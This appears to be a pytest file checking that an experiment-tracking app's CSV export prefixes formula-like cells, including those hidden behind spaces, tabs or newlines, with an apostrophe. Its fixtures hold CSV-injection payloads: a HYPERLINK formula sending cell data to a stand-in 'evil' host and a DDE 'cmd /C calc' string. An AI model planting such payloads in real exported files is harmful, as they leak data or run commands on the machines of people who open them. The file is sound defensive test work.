"""Finding 10: the runs CSV export neutralizes formulas hidden behind whitespace or line breaks.

Cells starting with ``= + - @``, tab or CR were prefixed with ``'``; `` =cmd``, ``\\n=cmd`` and
``\\t =cmd`` were not, and spreadsheets skip that leading blank space before a formula.
"""

from __future__ import annotations

import csv
import io

import pytest

from autolog.ui._format import csv_safe

FORMULA = '=HYPERLINK("http://evil/?"&A1)'


@pytest.mark.parametrize("prefix", ["", " ", "  ", "\n", "\r\n", "\t", " \t", "\n "])
@pytest.mark.parametrize("head", ["=", "+", "-", "@"])
def test_formulas_behind_blank_space_are_prefixed(prefix, head):
    value = prefix + head + FORMULA[1:]
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["-1", " -1.5", "+2e3", "plain", "a=b", "", "x\n=y"])
def test_numbers_and_plain_text_pass(value):
    assert csv_safe(value) == value


def test_the_exported_file_has_no_live_formula(tmp_path):
    from starlette.testclient import TestClient

    from autolog import Client
    from autolog.ui import create_app

    client = Client(str(tmp_path / "store"))
    experiment_id = client.create_experiment("e")
    names = [" =1+1", "\n=1+1", "\t =1+1", " @SUM(A1)"]
    for index, name in enumerate(names):
        client.create_run(experiment_id, run_name=name, params={"p": " +cmd|' /C calc'!A0", "i": str(index)})
    with TestClient(
        create_app(client.tracking_uri, csrf_token="t"), base_url="http://127.0.0.1:5000"
    ) as http:
        # the column chosen explicitly: it holds the same value in every run, so it is no default column
        text = http.get(f"/experiments/{experiment_id}/runs.csv", params={"col": "params.p"}).text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(names)
    for row in rows:
        for column in ("run_name", "params.p"):
            assert row[column].startswith("'"), (column, row[column])
